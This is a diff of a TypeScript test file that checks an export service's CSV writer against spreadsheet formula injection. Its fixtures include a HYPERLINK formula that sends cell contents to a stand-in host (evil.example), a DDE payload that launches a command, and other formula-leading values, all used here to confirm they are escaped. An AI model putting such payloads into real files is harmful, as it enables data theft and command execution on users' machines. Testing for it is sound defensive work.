@@ -3,9 +3,10 @@ import { existsSync } from 'node:fs';
 import { call, createTenant, startTestApp, tokenFor, type TestApp } from '../helpers/app';
 import { eventually, startWebhookWorker } from '../helpers/webhook-fixtures';
 import { seedOperationsEvents } from '../helpers/export-fixtures';
-import { defineExportSource, exportSource, type ExportSource } from '../../src/domain/exports/sources';
+import { EXPORT_KINDS, defineExportSource, exportSource, type ExportSource } from '../../src/domain/exports/sources';
 import { exportFilePath } from '../../src/domain/exports/exports';
-import { copyEncoded, encodeBatches, type EncodedChunk, type ExportFormat } from '../../src/domain/exports/writer';
+import { csvField } from '../../console/src/lib/csv';
+import { copyEncoded, encodeBatches, encodeRows, type EncodedChunk, type ExportFormat } from '../../src/domain/exports/writer';
 
 let app: TestApp;
 let worker: { stop(): Promise<void> } | undefined;
@@ -93,14 +94,15 @@ describe('operations activity exports', () => {
     const s = await scenario();
     // Event payloads carry text the API accepted from users; amounts are formatted by the ledger.
     const cells = [
-      ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '+1+1', '-10.00', '-1.50', '@SUM(A1:A9)'],
-      ['-2+3', '\tTAB', '-1+1', '7', '\rCR'],
-    ];
-    for (const [i, [family, status, principal, fee, subject]] of cells.entries()) {
+      ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '+1+1', '-10.00', '-1.50', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", { note: '=1+1', '@k': '-2+3' }],
+      ['-2+3', '\tTAB', '-1+1', '7', '\rCR', null, {}],
+    ] as const;
+    for (const [i, [family, status, principal, fee, subject, reference, metadata]] of cells.entries()) {
+      const payload = { family, status, principal_amount: { currency: 'USDC', value: principal }, fee_summary: { total: { currency: 'USDC', value: fee } }, reference, metadata };
       await app.services.sql`
         insert into events (id, type, enterprise_id, scope_ref, resource_ref, payload, attribution, occurred_at, dispatched_at)
         values (gen_random_uuid(), 'operations.internal_transfer.executed.v1', ${s.tenant.enterpriseId}, ${s.scope}, ${`internal-transfers/${i}`},
-                ${app.services.sql.json({ family, status, principal_amount: { currency: 'USDC', value: principal }, fee_summary: { total: { currency: 'USDC', value: fee } } })},
+                ${app.services.sql.json(payload)},
                 ${app.services.sql.json({ subject: { kind: 'user', id: subject } })}, ${new Date(T0.getTime() + i * 1000)}, now())`;
     }
     const created = await s.api('POST', '/operations-activity-exports', { scope_ref: s.scope, from: T0.toISOString(), to: new Date(T0.getTime() + 60_000).toISOString(), format: 'csv' });
@@ -110,9 +112,12 @@ describe('operations activity exports', () => {
     const lines = bytes.toString('utf8').split('\r\n');
     // From `family` on: family, status, principal_currency, principal_value, fee_currency, fee_total, subject_kind, subject_id, reference, metadata.
     const tail = (line: string) => line.split(',').slice(5).join(',');
-    expect(tail(lines[1])).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'+1+1",USDC,-10.00,USDC,-1.50,user,"'@SUM(A1:A9)",,`);
+    // The integrator's reference is neutralised; metadata is its JSON object, whose cell starts with `{`.
+    expect(tail(lines[1])).toBe(
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'+1+1",USDC,-10.00,USDC,-1.50,user,"'@SUM(A1:A9)","'=cmd|' /C calc'!A0","{""@k"": ""-2+3"", ""note"": ""=1+1""}"`,
+    );
     // A non-decimal in an amount column is text like any other.
-    expect(tail(lines[2])).toBe(`"'-2+3","'\tTAB",USDC,"'-1+1",USDC,7,user,"'\rCR",,`);
+    expect(tail(lines[2])).toBe(`"'-2+3","'\tTAB",USDC,"'-1+1",USDC,7,user,"'\rCR",,{}`);
   });
 
   it.each([
@@ -238,6 +243,26 @@ describe('user action audit exports', () => {
     } finally {
       defineExportSource('user_action_audit', original);
     }
+  });
+});
+
+describe('every export source written as CSV', () => {
+  const FORMULAS = ['=1+1', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'];
+
+  it.each(EXPORT_KINDS)('%s: a cell starting with a formula character is written behind a quote, in every column', (kind) => {
+    const source = exportSource(kind);
+    for (const value of FORMULAS) {
+      const line = encodeRows([Object.fromEntries(source.columns.map((c) => [c, value]))], source.columns, 'csv', source.numeric);
+      expect(line).toBe(`${source.columns.map(() => `"'${value}"`).join(',')}\r\n`);
+    }
+    // A plain negative decimal stays a number only in the columns the source formats as amounts.
+    const decimals = encodeRows([Object.fromEntries(source.columns.map((c) => [c, '-10.00']))], source.columns, 'csv', source.numeric);
+    expect(decimals).toBe(`${source.columns.map((c) => (source.numeric?.includes(c) ? '-10.00' : `"'-10.00"`)).join(',')}\r\n`);
+  });
+
+  it("the console's statement download follows the same rule", () => {
+    expect(FORMULAS.map(csvField)).toEqual(FORMULAS.map((v) => `"'${v}"`));
+    expect(['-10.00', '12.5', 'deposit', 'a,b'].map(csvField)).toEqual(['-10.00', '12.5', 'deposit', '"a,b"']);
   });
 });
 
